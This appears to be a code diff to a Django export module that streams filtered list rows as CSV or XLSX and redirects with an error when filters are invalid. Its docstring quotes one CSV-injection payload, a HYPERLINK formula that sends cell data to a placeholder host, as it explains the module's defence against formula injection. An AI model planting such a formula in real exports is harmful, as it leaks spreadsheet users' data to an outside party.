@@ -1,8 +1,8 @@
 """Exports of any list: CSV that streams, and XLSX written in constant memory.
 
 A list describes its columns once (header, kind, width) and hands over an iterator of row
-tuples (values_list(...).iterator()); these functions turn it into a download. Shared by every
-app (dependencies point one way, so it lives in the lowest app).
+tuples (values_list(...).iterator()); these functions turn it into a download. ExportMixin is
+the one way a list page downloads its filtered rows.
 
 Every export goes through here, so here user text is kept from becoming a formula (OWASP "CSV
 injection"): text such as =HYPERLINK("http://x.example/?d="&B2,"Click") would run when the
@@ -17,10 +17,13 @@ import csv
 import datetime
 import re
 import tempfile
-from collections.abc import Iterable, Sequence
+from collections.abc import Callable, Iterable, Sequence
 from dataclasses import dataclass
+from typing import IO
 
-from django.http import FileResponse, StreamingHttpResponse
+from django.contrib import messages
+from django.http import FileResponse, HttpResponseRedirect, StreamingHttpResponse
+from django.urls import reverse
 from django.utils import timezone
 
 
@@ -171,10 +174,11 @@ def _sheet_title(title: str) -> str:
     return title[:31] or "Sheet"
 
 
-def xlsx_response(filename: str, sheets) -> FileResponse:
-    """An XLSX download of the given sheets, spooled to a temporary file, not held in memory."""
+def xlsx_file_response(filename: str, write: Callable[[IO[bytes]], None]) -> FileResponse:
+    """An XLSX download that `write(handle)` writes, spooled to a temporary file rather than
+    held in memory."""
     handle = tempfile.TemporaryFile()  # noqa: SIM115 - FileResponse closes it when sent
-    write_xlsx(handle, sheets)
+    write(handle)
     handle.seek(0)
     return FileResponse(
         handle,
@@ -182,6 +186,15 @@ def xlsx_response(filename: str, sheets) -> FileResponse:
         filename=f"{filename}.xlsx",
         content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
     )
+
+
+def xlsx_response(filename: str, sheets) -> FileResponse:
+    """An XLSX download of the given sheets."""
+    return xlsx_file_response(filename, lambda handle: write_xlsx(handle, sheets))
+
+
+EXPORT_FORMATS = ("csv", "xlsx")
+NOTHING_EXPORTED = "Nothing was exported: correct the filters."
 
 
 def export_response(request, filename: str, columns: Sequence[Column], rows, *, title: str):
@@ -192,27 +205,50 @@ def export_response(request, filename: str, columns: Sequence[Column], rows, *, 
     return csv_response(stamped, columns, rows)
 
 
-class ExportableListMixin:
-    """On a django-filter list view, ?format=csv or ?format=xlsx downloads what the filters
-    show: every matching row, not one page. Subclasses give the columns and the row tuples."""
+class ExportMixin:
+    """Every download of a filtered list goes through here: every row the filters match (not
+    one page), as CSV or XLSX, and one behaviour when the filters are invalid: nothing is
+    downloaded, and the list page opens with the same filters, their errors shown beside them
+    and the message NOTHING_EXPORTED.
+
+    On a list view (django-filter's FilterView), ?format=csv or ?format=xlsx downloads. A view
+    at an export URL of its own sets `export_only` (it always downloads, CSV unless
+    ?format=xlsx) and names its list in `list_url_name`. Subclasses give `filterset_class`, the
+    columns and the row tuples (export_rows), and may narrow the rows (export_queryset).
+    """
 
     export_name = "export"
     export_title = "Export"
     export_columns: Sequence[Column] = ()
+    export_only = False
+    list_url_name = ""  # the list page an export URL belongs to ("": this page)
+
+    def export_queryset(self):
+        """The rows the filters apply to (default: the list's)."""
+        return self.get_queryset()
 
     def export_rows(self, queryset) -> Iterable[Sequence]:
         raise NotImplementedError
 
     def get(self, request, *args, **kwargs):
-        if request.GET.get("format") not in ("csv", "xlsx"):
+        if not self.export_only and request.GET.get("format") not in EXPORT_FORMATS:
             return super().get(request, *args, **kwargs)
-        self.filterset = self.get_filterset(self.get_filterset_class())
-        if not self.filterset.is_valid():
-            return super().get(request, *args, **kwargs)  # the page shows the filter errors
-        return export_response(
-            request,
-            self.export_name,
-            self.export_columns,
-            self.export_rows(self.filterset.qs),
-            title=self.export_title,
+        filterset = self.filterset_class(
+            request.GET, queryset=self.export_queryset(), request=request
         )
+        if not filterset.is_valid():
+            messages.error(request, NOTHING_EXPORTED)
+            return HttpResponseRedirect(self._list_url_with_filters())
+        rows = self.export_rows(filterset.qs)
+        return export_response(
+            request, self.export_name, self.export_columns, rows, title=self.export_title
+        )
+
+    def _list_url_with_filters(self) -> str:
+        """The list page with the same filters (so it shows their errors), without the
+        download and page parameters."""
+        query = self.request.GET.copy()
+        for name in ("format", "page"):
+            query.pop(name, None)
+        path = reverse(self.list_url_name) if self.list_url_name else self.request.path
+        return f"{path}?{query.urlencode()}" if query else path
